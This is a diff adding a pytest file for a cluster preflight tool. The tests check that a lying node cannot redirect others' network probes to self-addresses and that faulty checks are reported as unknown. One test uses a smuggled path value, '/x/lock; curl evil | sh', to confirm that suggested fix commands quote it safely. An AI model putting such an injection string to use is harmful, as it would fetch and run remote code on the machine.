@@ -1,0 +1,125 @@
+"""One node that lies cannot keep the others from being judged, nor speak to them through us."""
+
+from __future__ import annotations
+
+import json
+import shlex
+from dataclasses import replace
+from pathlib import Path
+from typing import Any
+
+import pytest
+from tests.checks.recorded import HELLO
+from tests.hostile.scripted import ScriptedNode, ScriptedTransport
+
+from dslaunch.cluster.load import parse_cluster
+from dslaunch.preflight.check import Answers, Check, Nodes, Question, Scope, UnansweredError
+from dslaunch.preflight.checks import built_in, net_bandwidth, net_mesh
+from dslaunch.preflight.facts import Facts, NodeFacts, read
+from dslaunch.preflight.judge import FAULT, REACHED, judge
+from dslaunch.preflight.runner import Survey
+from dslaunch.protocol.survey import Answer
+
+CLUSTER = parse_cluster("nodes: [{host: 'n[1-3]', slots: 1}]\n", "c.yaml")
+SCOPE = Scope(CLUSTER, CLUSTER.nodes, token="t")
+CHECKS = built_in()
+
+
+def interfaces(address: str) -> Answer:
+    one = {"name": "eth0", "address": address, "loopback": False, "up": True}
+    return {"value": [{**one, "speed": None, "mtu": 1500}]}
+
+
+def mesh(**of_n2: Answer) -> Nodes:
+    """Three nodes that hold a port each; the second says something else."""
+    asked = net_mesh.CHECK.ask(SCOPE)
+    nodes = {}
+    for at, node in enumerate(SCOPE.nodes, 1):
+        own: dict[str, Answer] = {
+            "interfaces": interfaces(f"10.0.0.{at}"),
+            "resolve": {"value": {}},
+            "listen": {"value": {"port": 4000 + at}},
+            **(of_n2 if node.host == "n2" else {}),
+        }
+        recorded = {asked[name].key: answer for name, answer in own.items()}
+        nodes[node.host] = Answers(node, SCOPE, asked, recorded, HELLO)
+    return nodes
+
+
+def test_a_node_that_holds_no_port_is_not_dialed_by_the_others() -> None:
+    """The program on an honest node would fail on a port that is none, and so would all calls."""
+    nodes = mesh(listen={"value": {"port": None}})
+    targets = {host: q.argument["targets"] for host, q in net_mesh.calls(nodes).items()}
+    assert targets == {"n1": {"n3": ["10.0.0.3", 4003]}, "n3": {"n1": ["10.0.0.1", 4001]}}
+    for further in net_bandwidth.CHECK.measure:
+        for asked in further(nodes).values():
+            for question in asked.values():
+                assert json.loads(question.argument["argv"][-1])["target"][1] in (4001, 4003)
+
+
+@pytest.mark.parametrize(
+    "address", ["127.0.0.1", "::1", "0.0.0.0", "::", "224.0.0.1", "::ffff:127.0.0.1"]
+)
+def test_a_node_cannot_make_others_dial_themselves(address: str) -> None:
+    nodes = mesh(interfaces=interfaces(address))
+    assert net_mesh.address(nodes["n2"]) is None
+    assert set(net_mesh.calls(nodes)) == {"n1", "n3"}
+
+
+def test_a_command_to_copy_holds_a_nodes_path_as_one_word() -> None:
+    check = CHECKS["sw.locks"]
+    path = "/x/lock; curl evil | sh"
+    asked = check.ask(SCOPE)
+    (question,) = (q for q in asked.values() if q.kind == "list")
+    locks: Answer = {"value": [{"path": path, "size": 0, "age": 1e6}]}
+    node = SCOPE.nodes[0]
+    a = Answers(node, SCOPE, asked, {question.key: locks}, HELLO, limits=check.limits)
+    assert check.judge is not None
+    (verdict,) = check.judge(a)
+    assert shlex.split(verdict.fix) == ["rm", path]
+
+
+def facts(answers: dict[str, Answer]) -> Facts:
+    nodes = {n.host: NodeFacts(HELLO, answers, (0.0, 0.0), 0.1) for n in SCOPE.nodes}
+    return Facts("nodes: [{host: 'n[1-3]', slots: 1}]", "c.yaml", "t", 1.0, nodes, {})
+
+
+def bad_check() -> Check:
+    def judge_one(a: Answers) -> list[Any]:
+        raise KeyError(a.host)
+
+    return replace(CHECKS["shell.umask"], judge=judge_one, compare=None)
+
+
+def test_a_check_that_raises_is_unknown_and_names_its_exception() -> None:
+    report = judge(SCOPE, facts({}), {"a.bad": bad_check(), "shell.umask": CHECKS["shell.umask"]})
+    found = {f.check: (f.level, f.found) for f in report.findings if f.check != REACHED}
+    assert found["a.bad"] == ("unknown", f"{FAULT}: KeyError")
+    assert found["shell.umask"][0] == "pass"
+
+
+def test_a_check_that_cannot_say_what_follows_is_noted() -> None:
+    def further(nodes: Nodes) -> Any:
+        raise UnansweredError(next(iter(nodes)))
+
+    honest = {"hello": HELLO, "answers": {}, "clock": None}
+    way = ScriptedTransport({node.host: ScriptedNode(honest, honest) for node in SCOPE.nodes})
+    check = replace(CHECKS["shell.umask"], then=further)
+    survey = Survey(SCOPE, {"a.bad": check}, lambda *_: None, way)
+    assert set(survey.run()) == {"n1", "n2", "n3"}
+    assert survey.faults == ["UnansweredError"]
+
+
+def test_an_invalid_answer_of_a_recording_is_unknown_when_it_is_judged_again(
+    tmp_path: Path,
+) -> None:
+    question = Question("path", "/dev/shm", 5)
+    file = tmp_path / "facts.json"
+    file.write_text(facts({question.key: {"value": {"size": "large"}}}).to_json(), "utf-8")
+    again = read(file)
+    report = judge(SCOPE, again, {"shm.size": CHECKS["shm.size"]})
+    (tmp_path / "again.json").write_text(again.to_json(), "utf-8")
+    assert read(tmp_path / "again.json") == again
+    levels = {(f.check, f.level): f.hosts for f in report.findings}
+    assert levels[REACHED, "unknown"] == ("n1", "n2", "n3")
+    assert levels["shm.size", "unknown"] == ("n1", "n2", "n3")
